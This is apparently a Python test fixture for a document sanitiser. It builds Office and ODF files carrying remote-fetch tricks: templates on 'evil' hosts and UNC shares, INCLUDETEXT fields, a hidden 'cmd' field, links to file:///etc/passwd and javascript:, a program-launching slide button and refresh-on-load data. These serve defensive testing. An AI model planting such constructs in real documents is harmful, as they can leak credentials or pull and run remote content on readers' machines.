"""Files that would fetch something from elsewhere, with the names of what the guard takes out of each."""

from tests.factories.hostile import MAIN, linked, settings_with_template
from tests.factories.packages import W, field, odf, odf_part, office, relations

TAKEN_OUT: dict[str, tuple[str, bytes, tuple[str, ...]]] = {
    "remote template": ("docx", settings_with_template("http://example.no/evil.dotm"), ("template",)),
    "remote template, UNC": ("docx", settings_with_template("\\\\evil\\share\\x.dotm"), ("template",)),
    "INCLUDETEXT": ("docx", office(inside=field('INCLUDETEXT "http://example.no/x"')), ("field",)),
    "INCLUDEPICTURE": ("docx", office(inside=field("INCLUDE", "PICTURE ", '"http://x/y.png"')), ("field",)),
    "INCLUDE, simple": (
        "docx",
        office(
            inside='<w:p><w:fldSimple w:instr="INCLUDETEXT http://x"><w:r><w:t>svar</w:t></w:r></w:fldSimple></w:p>'
        ),
        ("field",),
    ),
    "hidden keyword": (
        "docx",
        office(
            inside='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>'
            '<w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>svar</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        ("field",),
    ),
    "link to a file, as a field": ("docx", office(inside=field('HYPERLINK "file:///C:/x.exe"')), ("field",)),
    "linked picture": (
        "docx",
        linked(
            "image",
            "http://example.no/pixel.png",
            inside='<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId7"/></w:p>',
        ),
        ("linked",),
    ),
    "linked picture without a mode": ("docx", linked("image", "http://x/y.png", outside=False), ("linked",)),
    "link to a file": (
        "docx",
        linked(
            "hyperlink",
            "file:///etc/passwd",
            inside='<w:p><w:hyperlink r:id="rId7"><w:r><w:t>svar</w:t></w:r></w:hyperlink></w:p>',
        ),
        ("link",),
    ),
    "link to a script": ("docx", linked("hyperlink", "javascript:alert(1)"), ("link",)),
    "link to a share": ("docx", linked("hyperlink", "\\\\evil\\x"), ("link",)),
    "data of a merge": (
        "docx",
        office(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>',
                "word/_rels/settings.xml.rels": relations(
                    ("rId1", "mailMergeSource", "file:///C:/x.mdb", True)
                ),
            }
        ),
        ("data",),
    ),
    "other workbook": (
        "xlsx",
        office(
            "xlsx",
            parts={
                "xl/externalLinks/externalLink1.xml": '<externalLink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("rId1", "externalLinkPath", "file:///\\\\evil\\share\\Budsjett.xlsx", True)
                ),
            },
        ),
        ("workbook",),
    ),
    "data on opening": (
        "xlsx",
        office(
            "xlsx", parts={"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}
        ),
        ("data",),
    ),
    "program behind a button": (
        "pptx",
        office(
            "pptx",
            parts={
                "ppt/slides/slide1.xml": '<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:hlinkClick r:id="" action="ppaction://program"/></p:sld>'
            },
        ),
        ("action",),
    ),
    "film from elsewhere": (
        "pptx",
        office(
            "pptx",
            parts={
                "ppt/slides/slide1.xml": '<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:videoFile r:link="rId1"/></p:sld>',
                "ppt/slides/_rels/slide1.xml.rels": relations(
                    ("rId1", "video", "http://example.no/v.mp4", True)
                ),
            },
        ),
        ("linked",),
    ),
    "add-in": (
        "docx",
        office(
            parts={
                "_rels/.rels": relations(
                    ("rId1", "officeDocument", MAIN, False), ("rId2", "webextensiontaskpanes", "x.xml", False)
                )
            }
        ),
        ("add_in",),
    ),
    "ODF template": (
        "odt",
        odf(parts={"meta.xml": odf_part('<meta:template xlink:href="file:///x.ott"/>')}),
        ("template",),
    ),
    "ODF section": (
        "odt",
        odf(
            inside='<text:section><text:section-source xlink:href="http://x/y.odt"/><text:p>svar</text:p></text:section>'
        ),
        ("field",),
    ),
    "ODF picture": (
        "odt",
        odf(inside='<draw:frame><draw:image xlink:href="http://x/y.png"/></draw:frame>'),
        ("linked",),
    ),
    "ODF picture above": (
        "odt",
        odf(inside='<draw:frame><draw:image xlink:href="../../y.png"/></draw:frame>'),
        ("linked",),
    ),
    "ODF link": (
        "odt",
        odf(inside='<text:p><text:a xlink:href="file:///etc/passwd">svar</text:a></text:p>'),
        ("link",),
    ),
}
